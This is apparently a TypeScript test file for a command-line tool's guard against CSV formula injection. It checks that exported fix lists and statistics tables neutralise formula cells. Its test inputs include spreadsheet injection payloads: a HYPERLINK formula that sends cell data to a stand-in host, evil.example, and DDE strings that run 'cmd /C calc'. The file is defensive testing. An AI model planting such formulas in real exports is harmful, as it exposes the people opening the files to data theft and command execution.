// CSV that people open in a spreadsheet never runs what it holds (CSV injection, OWASP): the
// fix list of `import --issues` and the tables of `stats --csv` go through one guard.
import { parse } from "csv-parse/sync"
import { describe, expect, it } from "vitest"
import { guardCell } from "../../src/cli/csv-guard.js"
import { fixListLine } from "../../src/cli/fix-list.js"
import { computeStats } from "../../src/cli/stats/compute.js"
import { statsCsv } from "../../src/cli/stats/csv.js"
import { exampleDataset } from "../../src/reference/index.js"

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
]

describe("guardCell", () => {
  it("prefixes a single quote to every text a spreadsheet would read as a formula", () => {
    for (const text of HOSTILE) expect(guardCell(text)).toBe(`'${text}`)
    // The sign alone, or a sign before text, is a formula too.
    expect(guardCell("-")).toBe("'-")
    expect(guardCell("-Viet Nam")).toBe("'-Viet Nam")
  })

  it("leaves plain numbers (a negative one included) and ordinary text as they are", () => {
    for (const text of ["-12", "-3.5", "+4", "0", "2024-10-15", "Viet Nam", "a=b", ""])
      expect(guardCell(text)).toBe(text)
  })
})

describe("the fix list and stats --csv are guarded", () => {
  it("a hostile cell value in the fix list is read back with its quote, never as a formula", () => {
    for (const value of HOSTILE) {
      const line = fixListLine({
        file: "register.csv",
        row: 3,
        column: "Result",
        value,
        problem: `${JSON.stringify(value)} is not a status`,
        suggestion: "=1+1",
      })
      const [fields] = parse(line) as string[][]
      expect(fields).toEqual([
        "register.csv",
        "3",
        "Result",
        `'${value}`,
        `${JSON.stringify(value)} is not a status`,
        "'=1+1",
      ])
    }
  })

  it("a negative number as written stays a number in the fix list", () => {
    const line = fixListLine({
      file: "f.csv",
      row: 2,
      column: "Birth Year",
      value: "-1985",
      problem: "p",
    })
    expect(line).toBe("f.csv,2,Birth Year,-1985,p,\r\n")
  })

  it("stats --csv guards text from the data (a goal title) but writes numbers as digits", () => {
    const framework = exampleDataset.frameworks?.[0]
    if (framework === undefined) throw new Error("the example dataset has a framework")
    const hostile = {
      ...exampleDataset,
      frameworks: [
        {
          ...framework,
          goals: framework.goals.map((goal, i) =>
            i === 0 ? { ...goal, title: '=HYPERLINK("http://evil.example","x")' } : goal,
          ),
        },
      ],
    }
    const stats = computeStats(hostile, { asOf: "2025-03-31", fiscalYearStartMonth: 4 })
    const rows = parse(statsCsv(stats, "goals"), { columns: true }) as Record<string, string>[]
    expect(rows[0]?.title).toBe(`'=HYPERLINK("http://evil.example","x")`)
    expect(rows.every((row) => /^\d+$/.test(row.seats ?? ""))).toBe(true)
  })
})
